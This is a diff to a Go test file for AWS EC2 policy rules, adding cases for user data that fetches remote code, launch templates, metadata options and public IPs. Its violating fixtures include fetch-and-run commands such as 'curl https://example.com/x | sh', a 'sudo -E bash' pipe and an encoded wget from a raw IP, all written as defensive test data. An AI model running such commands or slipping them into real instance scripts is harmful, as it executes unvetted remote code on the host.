@@ -23,10 +23,33 @@ func TestRules(t *testing.T) {
 		}
 	}
 	const script = "mysql --password=correct-horse -h db"
+	withBucket := func(text any) []Res {
+		return append(instance(Props{"userData": text}), R(aws.Bucket, "bucket", Props{}))
+	}
 	Run(t, Rules(), []Case{
+		{
+			Rule: "ec2-user-data-no-remote-code", Property: "userData", Missing: Passes,
+			Compliant: withBucket("dnf install -y mariadb105"), Violating: withBucket("curl https://example.com/x | sh"),
+			AlsoViolates: map[string][]Res{
+				"of AWS, piped":  withBucket("curl -s https://s3.amazonaws.com/x/y | sudo -E bash"),
+				"encoded":        instance(Props{"userDataBase64": base64.StdEncoding.EncodeToString([]byte("wget http://203.0.113.7/x"))}),
+				"another bucket": withBucket("aws s3 cp s3://elsewhere/x ."),
+				"an inclusion":   withBucket("#include\nhttps://example.com/x"),
+			},
+			AlsoPasses: map[string][]Res{
+				"the metadata service": withBucket("curl -s http://169.254.169.254/latest/meta-data/"),
+				"a comment":            withBucket("# https://example.com/x | sh"),
+				"a bucket":             withBucket(Sub("aws s3 cp s3://%s/x .", "bucket", "id")),
+			},
+		},
+		{
+			Rule: "ec2-no-launch-template", Property: "launchTemplate", Missing: Passes,
+			Compliant: instance(Props{"launchTemplate": Props{}}), Violating: instance(Props{"launchTemplate": Props{"id": "lt-1"}}),
+		},
 		{
 			Rule: "ec2-imdsv2", Property: "metadataOptions.httpTokens",
 			Compliant: metadata("httpTokens", "required"), Violating: metadata("httpTokens", "optional"),
+			AlsoPasses: map[string][]Res{"switched off": metadata("httpEndpoint", "disabled")},
 		},
 		{
 			Rule: "ec2-imds-hop-limit", Property: "metadataOptions.httpPutResponseHopLimit", Missing: Passes,
@@ -34,9 +57,13 @@ func TestRules(t *testing.T) {
 		},
 		{
 			Rule: "ec2-no-public-ip", Property: "associatePublicIpAddress",
-			Compliant:    instance(Props{"associatePublicIpAddress": false}),
-			Violating:    instance(Props{"associatePublicIpAddress": true}),
-			AlsoViolates: map[string][]Res{"by Eip": append(instance(Props{"associatePublicIpAddress": false}), R(aws.Eip, "eip", Props{"instance": Ref("instance")}))},
+			Compliant: instance(Props{"associatePublicIpAddress": false}),
+			Violating: instance(Props{"associatePublicIpAddress": true}),
+			AlsoViolates: map[string][]Res{"by Eip": append(instance(Props{"associatePublicIpAddress": false}), R(aws.Eip, "eip", Props{"instance": Ref("instance")})),
+				"by association": append(instance(Props{"associatePublicIpAddress": false}), R(aws.EipAssociation, "a", Props{"instanceId": "i-1"})),
+				"IPv6":           instance(Props{"associatePublicIpAddress": false, "ipv6AddressCount": 1}),
+				"an interface":   instance(Props{"associatePublicIpAddress": false, "networkInterfaces": List{Props{"networkInterfaceId": "eni-1"}}}),
+			},
 		},
 		{
 			Rule: "ec2-private-subnet", Property: "subnetId",
